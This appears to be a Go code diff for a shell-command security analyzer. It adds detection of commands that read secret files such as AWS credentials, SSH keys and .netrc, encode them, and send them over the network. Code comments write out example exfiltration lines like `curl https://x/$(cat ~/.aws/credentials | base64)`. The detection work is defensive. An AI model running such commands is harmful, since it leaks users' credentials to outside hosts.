@@ -389,6 +389,32 @@ const remoteMarker = "$(remote-content)"
 // fetch is refused.
 const httpsMarker = remoteMarker + "$(https-named-host)"
 
+// secretMarker is what a substitution that prints a secret file's content expands to, read as
+// is or through encoders and filters (`$(cat ~/.aws/credentials)`, `$(base64 -w0 ~/.ssh/id_rsa)`,
+// `$(cat ~/.netrc | base64 | tr -d '\n')`): a network command given it in any argument sends the
+// file (net: exfil/secret_file), as `curl -d @~/.netrc` does.
+const secretMarker = "$(secret-file)"
+
+// secretRead reports whether a command prints a secret file's content (secretSource without the
+// environment's dumps, which envSubst names, and without a CLI printing its own token, which
+// is sent to its issuer as often as elsewhere: authTarget judges the variable it goes into).
+func secretRead(argv []string) bool {
+	if len(argv) == 0 {
+		return false
+	}
+	name := base(argv[0])
+	switch name {
+	case "env", "printenv", "set":
+		return false
+	}
+	return !credentialPrinter(name, argv[1:]) && secretSource(name, argv[1:])
+}
+
+// secretFilter are the commands that pass on what they read, encoded or in part: a secret
+// read before them is still the secret after them.
+var secretFilter = set("base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd",
+	"tr", "head", "tail", "sed", "awk", "gawk", "mawk", "cut", "rev", "cat", "sort", "grep", "egrep", "fold", "paste")
+
 // decodedMarker is what a substitution that decodes or transforms text given on the line
 // stands for when the result is not computed here (`$(tr -d x <<< rxmx)`, `$(echo … | tr a-z
 // n-za-m)`): a command named by it, or a shell given it as code, runs text the line hides.
@@ -451,6 +477,9 @@ func (a *analyzer) subst(stmts []*syntax.Stmt) string {
 			// judged as all of it (det69)
 			return "$(env)"
 		}
+		if a.secretPipe(stages) {
+			return secretMarker // `$(cat ~/.aws/credentials | base64)`
+		}
 		if t, ok := a.decoded(stages); ok {
 			return t
 		}
@@ -498,6 +527,9 @@ func (a *analyzer) subst(stmts []*syntax.Stmt) string {
 			return httpsMarker
 		}
 		return remoteMarker
+	}
+	if secretRead(unwrapRoot(argv)) {
+		return secretMarker // `$(cat ~/.netrc)`, `$(base64 -w0 ~/.ssh/id_rsa)`
 	}
 	return "$(" + strings.Join(argv, " ") + ")"
 }
@@ -3001,6 +3033,9 @@ func (a *analyzer) net(name string, args []string, line string) {
 			default:
 				a.add("exfil/secret_var", "sends a secret variable over the network", line, 0.9)
 			}
+		case strings.Contains(x, secretMarker):
+			// `curl https://x/$(cat ~/.aws/credentials | base64)`, `curl -d "$(cat ~/.netrc)" URL`
+			a.add("exfil/secret_file", "sends a secret file's content over the network", line, 0.95)
 		case metadataURL.MatchString(x):
 			a.add("exfil/metadata", "reads cloud instance credentials (metadata endpoint)", line, 0.95)
 		case (strings.HasPrefix(x, "@") || strings.Contains(x, "=@") || strings.HasPrefix(x, "<")) && secretFile(x):
